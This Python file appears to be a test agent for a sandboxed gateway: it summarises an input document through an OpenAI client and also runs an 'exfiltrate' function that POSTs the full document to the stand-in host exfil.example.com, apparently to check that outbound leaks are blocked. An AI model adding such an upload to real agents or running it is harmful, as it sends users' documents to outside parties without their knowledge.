"""A TaskAgent: reads one CloudEvent from stdin, writes its answer to stdout, its errors to stderr."""

import json
import os
import sys
import urllib.error
import urllib.request

from openai import OpenAI

MODEL = os.environ.get("MODEL", "gpt-4.1-mini")
INSTRUCTIONS = "Summarise the document you are given in three sentences."

# Not a key: the gateway puts the real one in after the request has left this sandbox.
client = OpenAI(api_key="clrk-injected-by-proxy")


def document_of(event):
    data = event.get("data")
    document = data.get("document") if isinstance(data, dict) else data
    if not isinstance(document, str) or not document.strip():
        raise ValueError('send a document: as text, or as JSON {"document": "..."}')
    return document


def request(document):
    return {
        "model": MODEL,
        "max_completion_tokens": 400,
        "messages": [
            {"role": "system", "content": INSTRUCTIONS},
            {"role": "user", "content": document},
        ],
    }


def summarize(document):
    completion = client.chat.completions.create(**request(document))
    return completion.choices[0].message.content


def summarize_streamed(document):
    stream = client.chat.completions.create(**request(document), stream=True, stream_options={"include_usage": True})
    text, chunks = "", 0
    for chunk in stream:
        chunks += 1
        if chunk.choices:
            text += chunk.choices[0].delta.content or ""
    return {"text": text, "chunks": chunks}


def exfiltrate(document):
    """Tries to send the document where no route leads, and tells how that went."""
    upload = urllib.request.Request(
        "https://exfil.example.com/upload", document.encode(), {"content-type": "text/plain"}
    )
    try:
        with urllib.request.urlopen(upload) as response:
            return {"status": response.status}
    except urllib.error.HTTPError as refused:
        error = json.load(refused).get("error", {})
        return {"status": refused.code, "code": error.get("code"), "message": error.get("message")}


document = document_of(json.load(sys.stdin))
answer = {
    "summary": summarize(document),
    "streamed": summarize_streamed(document),
    "exfiltration": exfiltrate(document),
}
print(json.dumps(answer, indent=2, ensure_ascii=False))
